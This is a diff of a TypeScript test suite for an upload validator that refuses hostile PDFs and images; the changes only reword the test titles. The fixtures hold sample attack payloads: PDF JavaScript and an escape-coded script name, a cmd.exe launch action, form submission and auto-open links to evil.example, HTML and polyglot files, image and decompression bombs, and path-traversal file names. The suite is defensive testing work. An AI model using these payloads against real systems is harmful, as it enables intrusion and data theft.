@@ -29,20 +29,20 @@ const objectStream = (objects: string, names = "/Filter /FlateDecode", packed = 
 
 const scripted: [what: string, bytes: Buffer][] = [
   ["with a script", pdfWith("2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n")],
-  ["with a script whose name is spelled by codes", pdfWith("2 0 obj<</S /J#61va#53cript /JS 3 0 R>>endobj\n")],
+  ["with a script whose name is written in escape codes", pdfWith("2 0 obj<</S /J#61va#53cript /JS 3 0 R>>endobj\n")],
   ["that starts a program", pdfWith("2 0 obj<</S /Launch /F (cmd.exe)>>endobj\n")],
   ["with a file inside", pdfWith("2 0 obj<</Type /EmbeddedFile /Length 0>>stream\n\nendstream endobj\n")],
-  ["with a form that sends itself", pdfWith("2 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj\n")],
+  ["with a form that submits itself", pdfWith("2 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj\n")],
   ["with a form that has scripts of its own", pdfWith("2 0 obj<</AcroForm<</XFA [1 0 R]>>>>endobj\n")],
   ["that opens an address by itself", pdfWith("2 0 obj<</OpenAction <</S /URI /URI (https://evil.example)>>>>endobj\n")],
   ["with a script in the data of another part", pdfWith("2 0 obj<</Length 40>>stream\n9 0 obj<</S /JavaScript>>endobj endstream endobj\n")],
-  ["with a script in a packed list", objectStream("2 0 <</S /JavaScript /JS (x)>>")],
-  ["with a list packed in a way of its own", objectStream("2 0 <<>>", "/Filter [/ASCII85Decode /FlateDecode]")],
-  ["with a list packed twice", objectStream("2 0 <<>>", "/Filter [/FlateDecode /FlateDecode]")],
-  ["with a list that does not unpack", objectStream("", "/Filter /FlateDecode", Buffer.from("0123456789"))],
-  ["with a list that unpacks to too much", objectStream(" ".repeat(mostUnpackedBytes + 1))],
+  ["with a script in a compressed object stream", objectStream("2 0 <</S /JavaScript /JS (x)>>")],
+  ["with an object stream of an unusual compression", objectStream("2 0 <<>>", "/Filter [/ASCII85Decode /FlateDecode]")],
+  ["with an object stream compressed twice", objectStream("2 0 <<>>", "/Filter [/FlateDecode /FlateDecode]")],
+  ["with an object stream that cannot be decompressed", objectStream("", "/Filter /FlateDecode", Buffer.from("0123456789"))],
+  ["with an object stream that decompresses to too much", objectStream(" ".repeat(mostUnpackedBytes + 1))],
   [
-    "with too many lists",
+    "with too many object streams",
     pdfWith(
       ..."x"
         .repeat(mostObjectStreams + 1)
@@ -52,7 +52,7 @@ const scripted: [what: string, bytes: Buffer][] = [
   ],
 ];
 
-test("trust S50: a document that opens at a page, with links and packed lists, is taken", () => {
+test("trust S50: a PDF that opens at a page, has links or ordinary object streams is accepted", () => {
   const plain = [
     pdfWith("2 0 obj<</OpenAction [3 0 R /XYZ null null 0]>>endobj\n"),
     pdfWith("2 0 obj<</OpenAction <</S /GoTo /D [3 0 R /Fit]>>>>endobj\n"),
@@ -65,7 +65,7 @@ test("trust S50: a document that opens at a page, with links and packed lists, i
     expect(checkUpload({ fileBody: base64(bytes), originalFilename: "Устав.pdf" }).contentType, String(index)).toBe("application/pdf");
 });
 
-test("trust S50 S54: no repeat in a pattern of contents reads past the sign that begins a match, so no bytes hold it up", () => {
+test("trust S50 S54: no repeat in a content pattern reads past the sign that begins a match, so no file slows it down", () => {
   for (const { pattern, signs } of contentPatterns) {
     const repeats = pattern.source.match(/(?:\[(?:\\.|[^\]])*\]|\\.|[^\\)])(?:[*+]|\{\d+,\d*\})/g) ?? [];
     for (const repeat of repeats) {
@@ -76,35 +76,35 @@ test("trust S50 S54: no repeat in a pattern of contents reads past the sign that
   }
 });
 
-describe("what is refused, with the file's name", () => {
+describe("uploads that are refused", () => {
   const html = Buffer.from("<html><script>alert(1)</script></html>");
   const cases: [title: string, name: string, bytes: Buffer, status: number][] = [
     ["an empty file", "Устав.pdf", Buffer.alloc(0), 400],
-    ["a page under the name of a document", "Устав.pdf", html, 415],
-    ["a document under the name of a picture", "Устав.png", pdf, 415],
-    ["a picture under the name of a document", "Устав.pdf", makePng(10, 10), 415],
-    ["a format that is not taken", "Устав.docx", pdf, 415],
-    ["a drawing", "Устав.svg", Buffer.from("<svg xmlns='x'/>"), 415],
-    ["a name without an ending", "Устав", pdf, 415],
-    ["a double ending", "Устав.html.pdf", pdf, 415],
-    ["a program behind a document's ending", "Устав.pdf.exe", pdf, 415],
-    ["a document with a page's head", "Устав.pdf", Buffer.concat([pdf.subarray(0, 9), html, pdf.subarray(9)]), 415],
-    ["a document before which a page stands", "Устав.pdf", Buffer.concat([html, pdf]), 415],
-    ["a document that ends as an archive", "Устав.pdf", Buffer.concat([pdf, zip]), 415],
-    ...scripted.map(([what, bytes]) => [`a document ${what}`, "Устав.pdf", bytes, 415] as [string, string, Buffer, number]),
-    ["a cut document", "Устав.pdf", pdf.subarray(0, 20), 415],
-    ["a picture with something behind it", "Устав.png", Buffer.concat([makePng(10, 10), Buffer.from("tail")]), 415],
-    ["a picture that ends as an archive", "Устав.jpg", Buffer.concat([jpeg(), zip]), 415],
+    ["an HTML page named .pdf", "Устав.pdf", html, 415],
+    ["a PDF named .png", "Устав.png", pdf, 415],
+    ["a PNG named .pdf", "Устав.pdf", makePng(10, 10), 415],
+    ["a format that is not accepted", "Устав.docx", pdf, 415],
+    ["an SVG drawing", "Устав.svg", Buffer.from("<svg xmlns='x'/>"), 415],
+    ["a name without an extension", "Устав", pdf, 415],
+    ["a name with two extensions", "Устав.html.pdf", pdf, 415],
+    ["a program named .pdf.exe", "Устав.pdf.exe", pdf, 415],
+    ["a PDF with HTML inside", "Устав.pdf", Buffer.concat([pdf.subarray(0, 9), html, pdf.subarray(9)]), 415],
+    ["a PDF after an HTML page", "Устав.pdf", Buffer.concat([html, pdf]), 415],
+    ["a PDF that ends as a ZIP archive", "Устав.pdf", Buffer.concat([pdf, zip]), 415],
+    ...scripted.map(([what, bytes]) => [`a PDF ${what}`, "Устав.pdf", bytes, 415] as [string, string, Buffer, number]),
+    ["a truncated PDF", "Устав.pdf", pdf.subarray(0, 20), 415],
+    ["a PNG with data after its end", "Устав.png", Buffer.concat([makePng(10, 10), Buffer.from("tail")]), 415],
+    ["a JPEG that ends as a ZIP archive", "Устав.jpg", Buffer.concat([jpeg(), zip]), 415],
     [
-      "a picture with a page inside",
+      "a JPEG with HTML inside",
       "Устав.jpg",
       Buffer.concat([jpeg().subarray(0, -2), Buffer.from("<script >alert(1)</script>"), Buffer.from([0xff, 0xd9])]),
       415,
     ],
-    ["a picture with a document inside", "Устав.jpg", Buffer.concat([jpeg(), pdf]), 415],
-    ["a cut picture", "Устав.png", makePng(10, 10).subarray(0, 40), 415],
-    ["a bomb", "Устав.png", makePng(20_000, 20_000), 400],
-    ["a bomb of the other kind", "Устав.jpg", jpeg(20_000, 20_000), 400],
+    ["a JPEG with a PDF inside", "Устав.jpg", Buffer.concat([jpeg(), pdf]), 415],
+    ["a truncated PNG", "Устав.png", makePng(10, 10).subarray(0, 40), 415],
+    ["a PNG of 20,000 pixels a side", "Устав.png", makePng(20_000, 20_000), 400],
+    ["a JPEG of 20,000 pixels a side", "Устав.jpg", jpeg(20_000, 20_000), 400],
   ];
 
   let made: JoiningCompany;
@@ -112,7 +112,7 @@ describe("what is refused, with the file's name", () => {
     made = await newcomer();
   });
 
-  test.each(cases)("trust S50 S54: %s", async (_, originalFilename, bytes, status) => {
+  test.each(cases)("trust S50 S54: %s is refused with the file's name", async (_, originalFilename, bytes, status) => {
     const before = storedFiles().length;
     const answer = await upload(made, { originalFilename, fileBody: base64(bytes) });
     expect([answer.status, answer.errors[0]?.code.split(":")[1]]).toEqual([status, "4000"]);
@@ -121,7 +121,7 @@ describe("what is refused, with the file's name", () => {
     expect(storedFiles()).toHaveLength(before);
   });
 
-  test("trust S50: what was declared must fit too", async () => {
+  test("trust S50: a declared content type that does not fit the file is refused", async () => {
     for (const body of [{ contentType: "text/html" }, { contentType: "image/png" }, { fileBody: `data:image/png;base64,${base64(pdf)}` }])
       expect((await upload(made, body)).status).toBe(415);
     const other = await newcomer();
@@ -130,7 +130,7 @@ describe("what is refused, with the file's name", () => {
     );
   });
 
-  test("S36: no value of any field breaks the call", async () => {
+  test("S36: invalid values in any field are refused in Russian and never cause a server error", async () => {
     const bad = [null, 1, true, [], {}, "", "   ", "не base64", "====", "a\u0000b", "\ud800", "__proto__", "x".repeat(300), -1, 2 ** 53];
     for (const field of ["accreditationUuid", "companyUuid", "type", "fileBody", "originalFilename"]) {
       for (const value of bad) {
@@ -144,7 +144,7 @@ describe("what is refused, with the file's name", () => {
     expect((await fileRows(made.companyUuid)).map((row) => row.name)).toEqual([]);
   });
 
-  test("trust S52: names are cleaned of paths, line breaks and marks that turn text around", () => {
+  test("trust S52: file names are cleaned of paths, line breaks and marks that change the direction of text", () => {
     const names = [
       "../../etc/passwd.pdf",
       "C:\\secret\\x.pdf",
